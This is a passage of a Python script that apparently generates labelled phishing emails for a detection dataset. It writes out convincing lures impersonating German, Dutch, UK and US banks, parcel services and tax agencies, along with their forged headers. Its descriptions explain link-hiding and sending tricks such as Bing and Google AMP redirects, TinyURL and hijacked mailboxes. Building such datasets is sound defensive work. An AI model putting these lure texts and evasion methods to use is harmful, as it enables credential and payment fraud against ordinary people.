        dkim(stem, dom, "mail", sent, h="From:Reply-To:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
        rcv(f"from WIN-M4J2QH7T1VE ([127.0.0.1]) by smtp.{dom} with Microsoft SMTPSVC(10.0.17763.1)", sent),
    ]
    headers = f"""From: "Wells Fargo Online" <alerts@{dom}>
To: {rcpt}
Subject: You have 1 new secure message
Date: {rfc(sent)}
Message-ID: <WIN-M4J2QH7T1VE{hexs(stem + 'mid', 16).upper()}@smtp.{dom}>
MIME-Version: 1.0
X-OriginalArrivalTime: {sent.strftime('%d %b %Y %H:%M:%S.')}{digits(stem + 'oat', 4)} (UTC) FILETIME=[{hexs(stem + 'ft', 8).upper()}:01DB0522]"""
    emit(stem, "phishing",
         "Wells Fargo 'you have 1 new secure message' from a throwaway wf-securemessages.com domain (SPF/DKIM pass); the sign-on button goes to a Google Sites page that forwards to the credential kit.",
         Inbound("aol", rcpt, sent + timedelta(seconds=3), "172.86.75.19", f"smtp.{dom}", f"alerts@{dom}",
                 dkim=[(dom, "mail", "pass")], dmarc="", hfrom=dom),
         hops, headers, alt(plain, html, bnd(stem), charset="iso-8859-1"))


def p14_sparkasse_pushtan() -> None:
    stem = "b50-phish-sparkasse-pushtan"
    rcpt = "heike.brandstaetter@gmx.de"
    dom = "s-pushtan-service.de"
    sent = utc(2025, 9, 16, 6, 2, 33)
    link = f"https://{dom}/sparkasse/aktualisierung/?vid={hexs(stem + 'v', 10)}"
    plain = ("Sehr geehrte Kundin, sehr geehrter Kunde,\n\n"
             "aufgrund der Umsetzung der neuen EU-Zahlungsdiensterichtlinie (PSD2/PSD3) sind alle Sparkassen verpflichtet, "
             "das pushTAN-Verfahren ihrer Kunden bis zum 30.09.2025 zu aktualisieren.\n\n"
             "Bitte führen Sie die Aktualisierung über den folgenden Link durch. Der Vorgang dauert nur wenige Minuten:\n"
             f"{link}\n\n"
             "Nach Ablauf der Frist kann das Online-Banking bis zur erneuten Freischaltung nicht mehr genutzt werden. "
             "Die erneute Freischaltung erfolgt dann ausschließlich per Brief und ist kostenpflichtig.\n\n"
             "Mit freundlichen Grüßen\nIhre Sparkasse\n")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head>
<body style="margin:0;padding:0;background:#f1f1f1;">
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#f1f1f1"><tr><td align="center" style="padding:20px 0;">
<table width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff" style="font-family:Arial,Helvetica,sans-serif;font-size:14px;line-height:21px;color:#000000;">
<tr><td bgcolor="#ff0000" style="padding:16px 24px;color:#ffffff;font-size:22px;font-weight:bold;">&#9679; Sparkasse</td></tr>
<tr><td style="padding:26px 24px 6px 24px;font-size:19px;font-weight:bold;">Aktualisierung Ihres pushTAN-Verfahrens</td></tr>
<tr><td style="padding:6px 24px;">Sehr geehrte Kundin, sehr geehrter Kunde,<br><br>aufgrund der Umsetzung der neuen EU-Zahlungsdiensterichtlinie (PSD2/PSD3) sind alle Sparkassen verpflichtet, das pushTAN-Verfahren ihrer Kunden bis zum <b>30.09.2025</b> zu aktualisieren.</td></tr>
<tr><td style="padding:6px 24px;">Bitte f&uuml;hren Sie die Aktualisierung &uuml;ber den folgenden Button durch. Der Vorgang dauert nur wenige Minuten.</td></tr>
<tr><td style="padding:18px 24px;"><a href="{link}" style="background:#ff0000;color:#ffffff;padding:12px 26px;text-decoration:none;font-weight:bold;">Jetzt aktualisieren</a></td></tr>
<tr><td style="padding:6px 24px;">Nach Ablauf der Frist kann das Online-Banking bis zur erneuten Freischaltung nicht mehr genutzt werden. Die erneute Freischaltung erfolgt dann ausschlie&szlig;lich per Brief und ist kostenpflichtig.</td></tr>
<tr><td style="padding:16px 24px 24px 24px;">Mit freundlichen Gr&uuml;&szlig;en<br>Ihre Sparkasse</td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#666666;background:#f7f7f7;">Bitte antworten Sie nicht auf diese E-Mail. Diese Nachricht wurde automatisch erstellt.</td></tr>
</table></td></tr></table></body></html>
"""
    hops = [
        dkim(stem, dom, "dkim", sent, h="Date:From:To:Subject:Message-ID:MIME-Version:Content-Type"),
        rcv(f"from [127.0.0.1] (unknown [10.0.0.5])\n\tby mail.{dom} (Postfix) with ESMTPSA id 4cR{alnum(stem + 'q', 8)}\n\tfor <{rcpt}>", sent, BERLIN),
    ]
    headers = f"""Date: {rfc(sent, BERLIN)}
From: Sparkasse <kundenservice@{dom}>
To: {rcpt}
Subject: {qword("Wichtig: Ihr pushTAN-Verfahren muss aktualisiert werden", "ISO-8859-1")}
Message-ID: <{hexs(stem + 'mid', 32)}@{dom}>
MIME-Version: 1.0
X-Mailer: Sparkasse Benachrichtigungsdienst"""
    emit(stem, "phishing",
         "Sparkasse 'pushTAN-Verfahren bis 30.09. aktualisieren, sonst Sperre' in ISO-8859-1 from the look-alike domain s-pushtan-service.de (SPF/DKIM pass), citing EU payment rules to harvest online-banking credentials.",
         Inbound("gmx", rcpt, sent + timedelta(seconds=2), "91.215.85.146", f"mail.{dom}", f"kundenservice@{dom}",
                 dkim=[(dom, "dkim", "pass")], dmarc="", hfrom=dom),
         hops, headers, alt(plain, html, bnd(stem), charset="iso-8859-1"))


def p15_ing_pdf_link() -> None:
    stem = "b50-phish-ing-pdf-verifizierung"
    rcpt = "r.scheuermann@web.de"
    dom = "ing-sicherheitscenter.com"
    sent = utc(2025, 11, 4, 10, 31, 5)
    link = "https://ing-kontobestaetigung.net/de/banking/login?ref=pdf2511"
    pdf = files.pdf([
        "ING-DiBa AG  |  Sicherheitsbenachrichtigung", "",
        "Sehr geehrte Kundin, sehr geehrter Kunde,", "",
        "bei einer routinemaessigen Ueberpruefung Ihres Girokontos konnten Ihre",
        "hinterlegten Legitimationsdaten nicht vollstaendig bestaetigt werden.", "",
        "Gemaess Geldwaeschegesetz (GwG) sind wir verpflichtet, Ihre Angaben",
        "regelmaessig zu aktualisieren. Bitte bestaetigen Sie Ihre Daten innerhalb",
        "von 7 Tagen ueber die unten stehende Schaltflaeche.", "",
        "Erfolgt keine Bestaetigung, wird Ihr Konto aus Sicherheitsgruenden",
        "vorlaeufig gesperrt.", "",
        "Vorgangsnummer: ING-2511-44720-DE", "",
        "Mit freundlichen Gruessen", "Ihre ING",
    ], link=(link, (56, 480, 300, 520)), title="ING Sicherheitsbenachrichtigung")
    plain = ("Sehr geehrte Kundin, sehr geehrter Kunde,\n\n"
             "im Anhang finden Sie eine wichtige Mitteilung zu Ihrem Girokonto. Bitte lesen Sie diese sorgfältig durch "
             "und folgen Sie den Anweisungen innerhalb der angegebenen Frist.\n\nMit freundlichen Grüßen\nIhre ING\n")
    hops = [
        rcv(f"from DESKTOP-8HQ1L0C (unknown [194.87.31.1])\n\tby mail.{dom} (Postfix) with ESMTPA id 4Xk{alnum(stem + 'q', 8)}\n\tfor <{rcpt}>", sent, BERLIN),
    ]
    headers = f"""From: ING <kundenservice@{dom}>
To: {rcpt}
Subject: {qword("Ihre Kontoverifizierung – Frist 7 Tage")}
Date: {rfc(sent, BERLIN)}
Message-ID: <{hexs(stem + 'mid', 8)}-{hexs(stem + 'mid2', 4)}@DESKTOP-8HQ1L0C>
MIME-Version: 1.0
X-Mailer: Microsoft Outlook 16.0"""
    body = Multi("mixed", bnd(stem), [text(plain, "plain"),
                                      attachment("application/pdf", "ING_Sicherheitsbenachrichtigung.pdf", pdf)])
    emit(stem, "phishing",
         "ING 'Kontoverifizierung, Frist 7 Tage' with a two-line body and a PDF whose button links to an ING look-alike login; sent from a throwaway domain with SPF pass and no DKIM.",
         Inbound("webde", rcpt, sent + timedelta(seconds=2), "194.87.31.204", f"mail.{dom}", f"kundenservice@{dom}",
                 dkim=[], dmarc="", hfrom=dom, spam=True),
         hops, headers, body)


def p16_commerzbank_bing_redirect() -> None:
    stem = "b50-phish-commerzbank-phototan"
    rcpt = "gisela.haubold@gmx.de"
    sender = "amministrazione@ferramentabertoli.it"
    sent = utc(2024, 12, 3, 17, 44, 20)
    dest = "https://phototan-aktivierung.com/cb/start"
    u = "a1" + base64.urlsafe_b64encode(dest.encode()).decode().rstrip("=")
    p = hexs(stem + "p", 64)
    link = f"https://www.bing.com/ck/a?!&&p={p}JmltdHM9MTczMzE4NDAwMA&ptn=3&ver=2&hsh=4&fclid={guid(stem + 'fcl')}&u={u}&ntb=1"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body>
<div style="font-family:Arial,sans-serif;font-size:14px;color:#002e3c;max-width:600px;">
<p style="background:#002e3c;color:#ffd700;padding:14px 18px;font-size:20px;font-weight:bold;margin:0;">COMMERZBANK</p>
<p style="margin-top:22px;">Sehr geehrte Kundin, sehr geehrter Kunde,</p>
<p>ab dem 09.12.2024 wird die bisherige photoTAN-App durch eine neue Version ersetzt. Damit Sie Ihr Online-Banking weiterhin uneingeschr&auml;nkt nutzen k&ouml;nnen, ist eine einmalige Aktivierung der neuen App erforderlich.</p>
<p>Bitte nehmen Sie die Aktivierung rechtzeitig vor:</p>
<p><a href="{link}" style="display:inline-block;background:#ffd700;color:#002e3c;padding:11px 24px;text-decoration:none;font-weight:bold;">photoTAN jetzt aktivieren</a></p>
<p>Ohne Aktivierung wird der Zugang zum Online-Banking aus Sicherheitsgr&uuml;nden gesperrt.</p>
<p>Mit freundlichen Gr&uuml;&szlig;en<br>Ihre Commerzbank AG</p>
<p style="font-size:11px;color:#7a8a90;">Commerzbank AG, Kaiserplatz, 60311 Frankfurt am Main</p>
</div></body></html>
"""
    hops = [
        dkim(stem, "aruba.it", "a1", sent, h="Date:From:To:Subject:Message-ID:MIME-Version:Content-Type"),
        rcv(f"from [41.216.188.42] ([41.216.188.42])\n\tby Aruba Outgoing Smtp  with ESMTPSA\n\tid {alnum(stem + 'ar', 16)}", sent, PARIS),
    ]
    headers = f"""Date: {rfc(sent, PARIS)}
From: Commerzbank AG <{sender}>
To: {rcpt}
Subject: photoTAN: Aktivierung Ihrer neuen App erforderlich
Message-ID: <{hexs(stem + 'mid', 24)}@ferramentabertoli.it>
MIME-Version: 1.0
X-CMAE-Envelope: MS4xfH{alnum(stem + 'cmae', 80, ALNUM + '/+')}"""
    emit(stem, "phishing",
         "Commerzbank 'photoTAN-App neu aktivieren' sent from the hijacked Aruba mailbox of an Italian hardware shop; the button is a Bing /ck/a click redirect whose base64 u= parameter hides the phishing host.",
         Inbound("gmx", rcpt, sent + timedelta(seconds=3), "62.149.158.176", "smtpcmd15176.aruba.it", sender,
                 dkim=[("aruba.it", "a1", "pass")], dmarc="", hfrom="ferramentabertoli.it", country="IT"),
         hops, headers, text(html, "html"))


def p17_dhl_zoll_brevo() -> None:
    stem = "b50-phish-dhl-zoll-brevo"
    rcpt = "m.oberlaender@gmx.net"
    dom = "paketdienst-zustellinfo.de"
    sent = utc(2025, 7, 21, 9, 14, 2)
    trk = "4jxk9.r.sp1-brevo.net"
    click = lambda n: f"https://{trk}/mk/cl/f/sh/{alnum(stem + 'cl' + str(n), 28)}/{alnum(stem + 'cl2' + str(n), 12)}"
    plain = ("DHL\n\nGuten Tag,\n\nIhre Sendung JJD000390007782194210 konnte nicht zugestellt werden.\n\n"
             "Für die Sendung ist eine Einfuhrabgabe (Zoll) in Höhe von 2,99 EUR offen. Bitte begleichen Sie den Betrag "
             "innerhalb von 3 Tagen, damit wir Ihre Sendung zustellen können. Andernfalls wird die Sendung an den Absender zurückgeschickt.\n\n"
             f"Jetzt bezahlen: {click(1)}\n\nIhr DHL Team\n\nAbmelden: https://{trk}/mk/un/v2/{alnum(stem + 'un', 40)}\n")
    html = f"""<!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml" lang="de"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>DHL</title></head>
<body style="word-spacing:normal;background-color:#f2f2f2;">
<div style="background-color:#f2f2f2;" lang="de">
<table align="center" border="0" cellpadding="0" cellspacing="0" role="presentation" style="width:100%;max-width:600px;"><tr><td>
<div style="background:#ffcc00;margin:0px auto;max-width:600px;"><table align="center" border="0" cellpadding="0" cellspacing="0" role="presentation" style="background:#ffcc00;width:100%;"><tr><td style="padding:18px 24px;font-family:Arial,sans-serif;font-size:26px;font-weight:bold;font-style:italic;color:#d40511;">DHL</td></tr></table></div>
<div style="background:#ffffff;margin:0px auto;max-width:600px;"><table align="center" border="0" cellpadding="0" cellspacing="0" role="presentation" style="background:#ffffff;width:100%;"><tr><td style="padding:24px;font-family:Arial,sans-serif;font-size:14px;line-height:21px;color:#333333;">
<p style="font-size:19px;font-weight:bold;margin:0 0 14px 0;">Ihre Sendung wartet auf Zustellung</p>
<p>Guten Tag,</p>
<p>Ihre Sendung <b>JJD000390007782194210</b> konnte nicht zugestellt werden. F&uuml;r die Sendung ist eine Einfuhrabgabe (Zoll) in H&ouml;he von <b>2,99&nbsp;EUR</b> offen.</p>
<p>Bitte begleichen Sie den Betrag innerhalb von 3 Tagen, damit wir Ihre Sendung zustellen k&ouml;nnen. Andernfalls wird die Sendung an den Absender zur&uuml;ckgeschickt.</p>
<p style="margin:24px 0;"><a href="{click(1)}" style="background:#d40511;color:#ffffff;padding:12px 28px;text-decoration:none;border-radius:4px;font-weight:bold;" target="_blank">Jetzt bezahlen</a></p>
<p>Ihr DHL Team</p></td></tr></table></div>
<div style="margin:0px auto;max-width:600px;"><table align="center" border="0" cellpadding="0" cellspacing="0" role="presentation" style="width:100%;"><tr><td style="padding:16px 24px;font-family:Arial,sans-serif;font-size:11px;color:#888888;text-align:center;">
Diese E-Mail wurde an {rcpt} gesendet.<br><a href="https://{trk}/mk/un/v2/{alnum(stem + 'un', 40)}" style="color:#888888;">Abmelden</a></td></tr></table></div>
</td></tr></table></div>
<img width="1" height="1" src="https://{trk}/mk/op/sh/{alnum(stem + 'op', 28)}/{alnum(stem + 'op2', 12)}" alt="" />
</body></html>
"""
    hops = [
        dkim(stem, "sendibm1.com", "mail", sent, h="Date:Subject:From:To:Message-Id:MIME-Version:Content-Type:List-Unsubscribe:List-Unsubscribe-Post", c="relaxed/simple"),
        dkim(stem, dom, "brevo1", sent, h="Date:Subject:From:To:Message-Id:MIME-Version:Content-Type:List-Unsubscribe:List-Unsubscribe-Post", c="relaxed/simple"),
        rcv(f"from [10.2.{digits(stem + 'b1', 2)}.{digits(stem + 'b2', 2)}] by smtp-relay.brevo.com\n\twith ESMTP id {hexs(stem + 'rid', 24)}", sent),
    ]
    headers = f"""Date: {rfc(sent)}
Subject: {qword("Ihre Sendung wartet: offene Zollgebühr (2,99 €)")}
From: DHL Paket <benachrichtigung@{dom}>
To: {rcpt}
Message-Id: <{hexs(stem + 'mid', 12)}.{digits(stem + 'mid2', 10)}@smtp-relay.mailin.fr>
MIME-Version: 1.0
List-Unsubscribe: <https://{trk}/mk/un/v2/{alnum(stem + 'un', 40)}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
X-Mailin-EID: {b64(stem + 'eid', 30)}%3D%3D{rcpt.replace('@', '%40')}%3C{hexs(stem + 'mid', 12)}%3E
X-sib-id: {alnum(stem + 'sib', 90)}
Feedback-ID: 185.41.28.112:{digits(stem + 'fb', 7)}_-1:{digits(stem + 'fb', 7)}:Sendinblue
X-Mailer: Sendinblue"""
    emit(stem, "phishing",
         "DHL 'Zollgebühr 2,99 € offen' parcel-fee lure sent through Brevo (Sendinblue) for a throwaway paketdienst domain that passes SPF, DKIM and DMARC; the pay button is a Brevo click-tracking redirect to a card form.",
         Inbound("gmx", rcpt, sent + timedelta(seconds=2), "185.41.28.112", "mk-112.sendibm1.com", f"bounces-{digits(stem + 'bo', 7)}-{hexs(stem + 'bo2', 8)}@sendibm1.com",
                 dkim=[("sendibm1.com", "mail", "pass"), (dom, "brevo1", "pass")], dmarc="pass", policy="NONE", hfrom=dom),
         hops, headers, alt(plain, html, bnd(stem)))


def p18_usps_top() -> None:
    stem = "b50-phish-usps-address-top"
    rcpt = "g.sandoval_tx@hotmail.com"
    dom = "kxqmtpa.com"
    sent = utc(2024, 6, 18, 2, 36, 40)
    link = "https://usps.com-trackgx.top/us/?trk=9400111206213859477201"
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:15px;color:#333366;">
<div style="max-width:540px;margin:0 auto;border:1px solid #dcdcdc;">
<div style="background:#333366;color:#ffffff;padding:14px 18px;font-weight:bold;font-size:20px;">USPS<span style="font-size:11px;font-weight:normal;"> &#174;</span></div>
<div style="padding:18px;">
<p><b>Tracking number:</b> 9400111206213859477201</p>
<p>The package arrived at our warehouse but could not be delivered due to incomplete address information.</p>
<p>Please confirm your address in the link below within 12 hours, or the package will be returned to the sender.</p>
<p style="text-align:center;margin:26px 0;"><a href="{link}" style="background:#da291c;color:#ffffff;padding:11px 30px;text-decoration:none;font-weight:bold;">Update Now</a></p>
<p style="font-size:12px;color:#777777;">The USPS team wishes you a wonderful day.</p>
</div></div></body></html>
"""
    hops = [rcv(f"from mail.{dom} (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTP id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent)]
    headers = f"""From: USPS Tracking <noreply@{dom}>
To: {rcpt}
Subject: USPS: Delivery attempt failed - address confirmation required
Date: {rfc(sent)}
Message-ID: <{hexs(stem + 'mid', 20)}@{dom}>
MIME-Version: 1.0"""
    emit(stem, "phishing",
         "USPS 'delivery attempt failed, confirm address within 12 hours' from a random throwaway domain (SPF pass, no DKIM); the button goes to a usps.com-prefixed .top host that asks for a redelivery fee.",
         Inbound("outlook", rcpt, sent + timedelta(seconds=2), "103.75.118.20", f"mail.{dom}", f"noreply@{dom}",
                 dkim=[], dmarc="", hfrom=dom, spam=True, country="HK"),
         hops, headers, text(html, "html"))


def p19_royalmail_cpanel_tinyurl() -> None:
    stem = "b50-phish-royalmail-fee-tinyurl"
    rcpt = "pete.hollis@yahoo.co.uk"
    dom = "lakeside-glamping.co.uk"
    host = "server214.web-hosting.com"
    sent = utc(2025, 10, 28, 16, 10, 2)
    link = "https://tinyurl.com/rm-redel-uk25"
    plain = ("Royal Mail\n\nYour parcel is waiting\n\nWe tried to deliver your item today but a shipping fee of £1.45 was unpaid.\n"
             f"To reschedule delivery, please pay the outstanding fee here:\n{link}\n\n"
             "If the fee is not paid within 48 hours the item will be returned to the sender.\n\nReference: RM284719033GB\n\nRoyal Mail Group\n")
    html = f"""<div dir="ltr"><div style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#1a1a1a;max-width:560px;">
<div style="background:#da202a;padding:14px 18px;color:#ffffff;font-size:20px;font-weight:bold;">Royal Mail</div>
<p style="font-size:18px;font-weight:bold;margin-top:20px;">Your parcel is waiting</p>
<p>We tried to deliver your item today but a shipping fee of <b>&pound;1.45</b> was unpaid.</p>
<p>To reschedule delivery, please pay the outstanding fee here:<br><a href="{link}">{link}</a></p>
<p>If the fee is not paid within 48 hours the item will be returned to the sender.</p>
<p>Reference: RM284719033GB</p>
<p>Royal Mail Group</p></div></div>
"""
    hops = [
        dkim(stem, dom, "default", sent, h="Content-Type:MIME-Version:Message-ID:Date:Subject:To:From:Sender:Reply-To:Cc:Content-Transfer-Encoding:Content-ID:Content-Description"),
        rcv(f"from [102.88.53.214] (port=51633 helo=[192.168.0.103])\n\tby {host} with esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n\t(Exim 4.98)\n\t(envelope-from <bookings@{dom}>)\n\tid 1vDr8a-00000003XyZ-1a2B\n\tfor {rcpt}", sent),
    ]
    headers = f"""Message-ID: <{guid(stem + 'mid')}@{dom}>
Date: {rfc(sent)}
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
To: {rcpt}
From: Royal Mail <bookings@{dom}>
Subject: Your parcel could not be delivered - =?UTF-8?Q?=C2=A31=2E45?= fee outstanding
X-AntiAbuse: This header was added to track abuse, please include it with any abuse report
X-AntiAbuse: Primary Hostname - {host}
X-AntiAbuse: Original Domain - yahoo.co.uk
X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]
X-AntiAbuse: Sender Address Domain - {dom}
X-Get-Message-Sender-Via: {host}: authenticated_id: bookings@{dom}
X-Authenticated-Sender: {host}: bookings@{dom}"""
    emit(stem, "phishing",
         "Royal Mail '£1.45 shipping fee unpaid' sent from the stolen cPanel mailbox of a UK glamping business (SPF and DKIM pass for it) with a TinyURL link to the fee-payment card form.",
         Inbound("yahoo", rcpt, sent + timedelta(seconds=2), "199.188.201.214", host, f"bookings@{dom}",
                 dkim=[(dom, "default", "pass")], dmarc="", hfrom=dom),
         hops, headers, alt(plain, html, bnd(stem)))


def p20_postnl_amp() -> None:
    stem = "b50-phish-postnl-herbezorging"
    rcpt = "f.vandermeer@hotmail.nl"
    dom = "postnl-bezorgservice.com"
    sent = utc(2025, 5, 14, 11, 9, 27)
    link = "https://www.google.com/amp/s/postnl-track-pakket.com/nl/herbezorging/?id=3SPNL27819422"
    plain = ("Beste klant,\n\nWe hebben vandaag geprobeerd uw pakket (3SPNL27819422) te bezorgen, maar de adresgegevens zijn onvolledig.\n\n"
             "Plan een nieuwe bezorging in en betaal de herbezorgkosten van € 1,95 via onderstaande link:\n"
             f"{link}\n\nLet op: na 48 uur wordt het pakket teruggestuurd naar de afzender.\n\nMet vriendelijke groet,\nPostNL Klantenservice\n")
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f3f3f3;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px 0;">
<table width="580" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,sans-serif;font-size:14px;line-height:21px;color:#2d2d2d;">
<tr><td style="background:#ff6200;padding:16px 22px;color:#ffffff;font-size:22px;font-weight:bold;">PostNL</td></tr>
<tr><td style="padding:22px;">Beste klant,<br><br>We hebben vandaag geprobeerd uw pakket (<b>3SPNL27819422</b>) te bezorgen, maar de adresgegevens zijn onvolledig.<br><br>Plan een nieuwe bezorging in en betaal de herbezorgkosten van <b>&euro; 1,95</b>.</td></tr>
<tr><td style="padding:0 22px 20px 22px;"><a href="{link}" style="background:#ff6200;color:#ffffff;padding:12px 26px;text-decoration:none;border-radius:4px;font-weight:bold;">Herbezorging inplannen</a></td></tr>
<tr><td style="padding:0 22px 22px 22px;">Let op: na 48 uur wordt het pakket teruggestuurd naar de afzender.<br><br>Met vriendelijke groet,<br>PostNL Klantenservice</td></tr>
</table></td></tr></table></body></html>
"""
    hops = [
        dkim(stem, dom, "default", sent, h="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
        rcv(f"from localhost (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent, AMSTERDAM),
    ]
    headers = f"""From: PostNL <info@{dom}>
To: {rcpt}
Subject: Uw pakket kon niet worden bezorgd
Date: {rfc(sent, AMSTERDAM)}
Message-ID: <{hexs(stem + 'mid', 24)}@{dom}>
MIME-Version: 1.0"""
    emit(stem, "phishing",
         "Dutch PostNL 'pakket niet bezorgd, betaal € 1,95 herbezorgkosten' from a look-alike domain (SPF/DKIM pass); the link is wrapped in a google.com/amp/s/ redirect to the payment kit.",
         Inbound("outlook", rcpt, sent + timedelta(seconds=2), "185.196.8.77", f"mail.{dom}", f"info@{dom}",
                 dkim=[(dom, "default", "pass")], dmarc="", hfrom=dom, country="CH", lang="nl"),
         hops, headers, alt(plain, html, bnd(stem)))


def p21_ezpass_toll_plain() -> None:
    stem = "b50-phish-ezpass-unpaid-toll"
    rcpt = "dwaynecarter.jr@gmail.com"
    dom = "ezpass-tollservices.info"
    sent = utc(2025, 1, 27, 13, 58, 9)
    body = ("E-ZPass Notice\n\n"
            "You have an unpaid toll balance of $6.99 for travel on Jan 22, 2025.\n\n"
            "To avoid a late fee of $50.00 and possible suspension of your vehicle registration, please settle the balance by January 29:\n\n"
            "https://ezpassny.com-tollbill.xin/pay\n\n"
            "(If the link does not open, copy it into your browser.)\n\n"
            "E-ZPass Customer Service Center\n")
    hops = [rcv(f"from [127.0.0.1] (unknown [23.94.146.88])\n\tby mail.{dom} (Postfix) with ESMTPSA id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent)]
    headers = f"""From: E-ZPass Service Center <notice@{dom}>
To: {rcpt}
Subject: Unpaid toll notice - balance $6.99
Date: {rfc(sent)}
Message-ID: <{hexs(stem + 'mid', 16)}.{digits(stem + 'mid2', 6)}@{dom}>
MIME-Version: 1.0"""
    emit(stem, "phishing",
         "Plain-text E-ZPass 'unpaid toll $6.99, late fee and registration suspension' from a throwaway .info domain (SPF pass only) pointing to a .xin host of the toll-smishing kits.",
         Inbound("gmail", rcpt, sent + timedelta(seconds=2), "23.94.146.88", f"mail.{dom}", f"notice@{dom}",
                 dkim=[], dmarc="", hfrom=dom),
         hops, headers, text(body, "plain", "7bit"))


def p22_irs_mailcom_pdf() -> None:
    stem = "b50-phish-irs-refund-pdf"
    rcpt = "rgoldbergfamily@aol.com"
    sender = "irs.refund.notice@usa.com"
    sent = utc(2025, 3, 3, 20, 25, 44)
    link = "https://irs-refund-portal.weebly.com/"
    pdf = files.pdf([
        "Department of the Treasury - Internal Revenue Service", "",
        "TAX REFUND NOTIFICATION                    Case ID: 2025-RF-448201", "",
        "After the last annual calculation of your fiscal activity we have determined",
        "that you are eligible to receive a tax refund of $1,284.60.", "",
        "To receive your refund, please complete the electronic refund form and",
        "confirm your banking information within 3 business days.", "",
        "Refunds not claimed within this period will be forfeited.", "",
        "Internal Revenue Service, 1111 Constitution Ave. NW, Washington, DC 20224",
    ], link=(link, (56, 540, 300, 580)), title="IRS Refund Form 1040-R")
    hops, mid, tailinfo = gmx_sent(stem, sent, sender, "197.210.54.118", "mailcom")
    tail = tailinfo.split("|")[2]
    html = """<html><head></head><body><div style="font-family: Verdana;font-size: 12.0px;"><div>Internal Revenue Service</div>

<div>&nbsp;</div>

<div>Our records indicate you are eligible to receive a tax refund of $1,284.60.</div>

<div>&nbsp;</div>

<div>Please find attached the refund form. Complete and submit it within 3 business days to avoid delays.</div>

<div>&nbsp;</div>

<div>IRS Refund Department</div></div></body></html>
"""
    headers = f"""MIME-Version: 1.0
Message-ID: {mid}
From: IRS Refunds <{sender}>
To: {rcpt}
Subject: Tax Refund Notification - Case ID 2025-RF-448201
Date: {rfc(sent, BERLIN)}
{tail}"""
    body = Multi("mixed", f"abmob-{guid(stem + 'abm')}", [
        text(html, "html"),
        attachment("application/pdf", "IRS_Refund_Form_1040-R.pdf", pdf),
    ])
    emit(stem, "phishing",
         "IRS 'you are eligible for a $1,284.60 refund' written in the mail.com webmailer from a free usa.com address, with a PDF 'refund form' whose button goes to a Weebly site collecting identity and bank details.",
         Inbound("aol", rcpt, sent + timedelta(seconds=3), "74.208.4.201", "mout.gmx.com", sender,
                 dkim=[("usa.com", "s1089575", "pass")], dmarc="", hfrom="usa.com"),
         hops, headers, body)


def p23_hmrc_spoofed_gov() -> None:
    stem = "b50-phish-hmrc-refund-spoof"
    rcpt = "eleanor.pryce@hotmail.co.uk"
    sent = utc(2024, 4, 9, 6, 51, 12)
    link = "https://hmrc-taxrefund-claim.webflow.io/"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"></head>
<body style="margin:0;font-family:Arial,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td bgcolor="#0b0c0c" style="padding:12px 20px;color:#ffffff;font-size:22px;font-weight:bold;">GOV.UK</td></tr></table>
<table width="600" cellpadding="0" cellspacing="0" style="margin:20px;font-size:16px;line-height:24px;color:#0b0c0c;">
<tr><td style="padding-bottom:10px;font-size:13px;color:#505a5f;">HM Revenue &amp; Customs</td></tr>
<tr><td style="font-size:26px;font-weight:bold;padding-bottom:18px;">Tax refund notification</td></tr>
<tr><td>After the last annual calculations of your fiscal activity we have determined that you are eligible to receive a tax refund of <b>&pound;426.80</b>.</td></tr>
<tr><td style="padding-top:14px;">Please submit the tax refund request and allow us 3-5 business days to process it.</td></tr>
<tr><td style="padding:22px 0;"><a href="{link}" style="background:#00703c;color:#ffffff;padding:10px 18px;text-decoration:none;font-weight:bold;">Claim your refund</a></td></tr>
<tr><td style="font-size:14px;color:#505a5f;">A refund can be delayed for a variety of reasons, for example submitting invalid records or applying after the deadline.</td></tr>
<tr><td style="padding-top:18px;">Yours sincerely,<br>HM Revenue &amp; Customs</td></tr>
</table></body></html>
"""
    hops = [rcv(f"from User ([65.21.91.215]) by static.215.91.21.65.clients.your-server.de with Microsoft SMTPSVC(6.0.3790.4675)", sent)]
    headers = f"""From: "HMRC" <noreply@tax.service.gov.uk>
To: {rcpt}
Subject: HMRC: Tax refund notification - =?windows-1252?Q?=A3426=2E80?=
Date: {rfc(sent)}
Message-ID: <{hexs(stem + 'mid', 12).upper()}$0{digits(stem + 'mid2', 5)}$0{digits(stem + 'mid3', 4)}@User>
MIME-Version: 1.0
X-Priority: 3
X-MSMail-Priority: Normal
X-Mailer: Microsoft Outlook Express 6.00.2600.0000
X-MimeOLE: Produced By Microsoft MimeOLE V6.00.2600.0000"""
    emit(stem, "phishing",
         "HMRC 'tax refund of £426.80' that spoofs noreply@tax.service.gov.uk from a Hetzner server (SPF fail, no DKIM, DMARC fail against gov.uk's reject policy); the claim button goes to a webflow.io page.",
         Inbound("outlook", rcpt, sent + timedelta(seconds=2), "65.21.91.215", "static.215.91.21.65.clients.your-server.de", "noreply@tax.service.gov.uk",
